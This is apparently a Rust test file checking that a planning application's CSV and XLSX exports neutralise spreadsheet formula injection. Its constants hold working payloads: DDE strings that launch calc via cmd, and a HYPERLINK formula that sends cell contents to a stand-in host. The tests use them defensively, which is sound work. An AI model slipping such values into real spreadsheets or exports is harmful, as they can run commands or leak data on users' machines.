//! Formula injection in exports (issue 13.2): text that a spreadsheet would run as a formula
//! comes out of every CSV export prefixed with `'`; numbers stay numbers; XLSX keeps strings as
//! strings, never formulas.
use crate::helpers::*;
use calamine::{Data, Reader, Xlsx};
use mejora::entities::enums::Role;
use serde_json::json;

const TITLE: &str = r#"=HYPERLINK("http://x/?"&A1,"ver")"#;
const CATEGORY: &str = r#"+cmd|" /C calc"!A0"#;
const CAUSE: &str = r#"-2+3+cmd|" /C calc"!A0"#;
const EFFECT: &str = "@evil";

/// A plan whose title, category, finding cause and effect are formulas; returns its id.
async fn hostile_plan(app: &TestApp, planner: &str) -> String {
    let auditor = app.token_for(Role::Auditor).await;
    let plan = json_of(
        app.post("/api/v1/plans", planner, &json!({"code": "INJ", "title": TITLE, "policy_scope": "mspi"})).await,
        201,
    )
    .await;
    let plan = plan["id"].as_str().unwrap().to_string();
    let category = json_of(
        app.post(
            &format!("/api/v1/plans/{plan}/categories"),
            planner,
            &json!({"name": CATEGORY, "source": "mspi", "score": 40}),
        )
        .await,
        201,
    )
    .await;
    let finding = json_of(
        app.post(
            "/api/v1/findings",
            &auditor,
            &json!({"source": "comptroller", "report_code": "CGR-2025", "finding_code": "H-01",
                    "title": "Accesos", "cause": CAUSE, "effect": EFFECT}),
        )
        .await,
        201,
    )
    .await;
    let action = json!({"type": "corrective", "focus": "corrective", "title": "Revisar accesos", "unit": "revisiones",
                        "target_quantity": 4, "start_date": "2025-01-01", "due_date": "2025-12-31",
                        "category_id": category["id"], "finding_ids": [finding["id"]]});
    json_of(app.post(&format!("/api/v1/plans/{plan}/actions"), planner, &action).await, 201).await;
    plan
}

async fn export(app: &TestApp, token: &str, plan: &str, query: &str) -> reqwest::Response {
    let res = app.get(&format!("/api/v1/plans/{plan}/export?{query}"), token).await;
    assert_eq!(res.status(), 200);
    res
}

/// The CSV records of an export (BOM stripped).
async fn csv_records(app: &TestApp, token: &str, plan: &str, layout: &str) -> Vec<Vec<String>> {
    let bytes = export(app, token, plan, &format!("format=csv&layout={layout}")).await.bytes().await.unwrap();
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn neutralised(text: &str) -> String {
    format!("'{text}")
}

#[tokio::test]
async fn csv_exports_neutralise_formulas_in_both_layouts_and_keep_numbers() {
    let app = spawn_app().await;
    let planner = app.token_for(Role::Planner).await;
    let plan = hostile_plan(&app, &planner).await;

    let ti = csv_records(&app, &planner, &plan, "ti-pl03").await;
    assert_eq!(ti[0], [neutralised(TITLE)], "the sheet title");
    assert!(ti.iter().any(|r| r == &["Título".to_string(), neutralised(TITLE)]), "{ti:?}");
    let row = ti.iter().find(|r| r[0].contains("cmd")).unwrap();
    assert_eq!(row[0], neutralised(CATEGORY));
    assert_eq!(row[1], "40", "the score stays a number");
    // No field anywhere starts a formula.
    let live = |r: &Vec<String>| r.iter().any(|f| f.starts_with(['=', '+', '-', '@', '\t', '\r']));
    assert!(!ti.iter().any(live), "{ti:?}");

    let sireci = csv_records(&app, &planner, &plan, "sireci-f14-1").await;
    assert_eq!(sireci[0], ["F14.1: PLANES DE MEJORAMIENTO - ENTIDADES"]);
    assert!(sireci.iter().any(|r| r == &["Título".to_string(), neutralised(TITLE)]), "{sireci:?}");
    let header = sireci.iter().position(|r| r[0] == "FILA").unwrap();
    let row = &sireci[header + 1];
    assert_eq!(row[2], "H-01");
    assert_eq!(row[4], neutralised(CAUSE));
    assert_eq!(row[5], neutralised(EFFECT));
    assert_eq!(row[10], "4", "the quantity stays a number");
    assert!(!sireci.iter().any(live), "{sireci:?}");
}

#[tokio::test]
async fn a_neutralised_ti_pl03_csv_imports_back_with_the_original_text() {
    let app = spawn_app().await;
    let planner = app.token_for(Role::Planner).await;
    let plan = hostile_plan(&app, &planner).await;
    let bytes = export(&app, &planner, &plan, "format=csv&layout=ti-pl03").await.bytes().await.unwrap();
    let res = app
        .request(
            reqwest::Method::POST,
            "/api/v1/plans/imports?code=INJ2&title=Copia&start_date=2025-01-01&end_date=2025-12-31",
            Some(&planner),
        )
        .header("Content-Type", "text/csv")
        .body(bytes.to_vec())
        .send()
        .await
        .unwrap();
    let imported = json_of(res, 201).await;
    let copy = imported["plan_id"].as_str().unwrap();
    let cats = json_of(app.get(&format!("/api/v1/plans/{copy}/categories"), &planner).await, 200).await;
    assert_eq!(cats["items"][0]["name"], CATEGORY);
    assert_eq!(cats["items"][0]["score"], 40.0);
}

#[tokio::test]
async fn xlsx_exports_write_formula_text_as_strings() {
    let app = spawn_app().await;
    let planner = app.token_for(Role::Planner).await;
    let plan = hostile_plan(&app, &planner).await;
    for layout in ["ti-pl03", "sireci-f14-1"] {
        let bytes = export(&app, &planner, &plan, &format!("format=xlsx&layout={layout}")).await.bytes().await.unwrap();
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
        let name = book.sheet_names()[0].clone();
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{layout}: no formula is written");
        let range = book.worksheet_range(&name).unwrap();
        let cells: Vec<&Data> = range.used_cells().map(|(_, _, c)| c).collect();
        assert!(cells.contains(&&Data::String(TITLE.into())), "{layout}: the title is a string");
        if layout == "ti-pl03" {
            assert!(cells.contains(&&Data::String(CATEGORY.into())));
            assert!(cells.contains(&&Data::Float(40.0)), "the score is a number");
        } else {
            assert!(cells.contains(&&Data::String(CAUSE.into())));
            assert!(cells.contains(&&Data::String(EFFECT.into())));
            assert!(cells.contains(&&Data::Float(4.0)), "the quantity is a number");
        }
    }
}
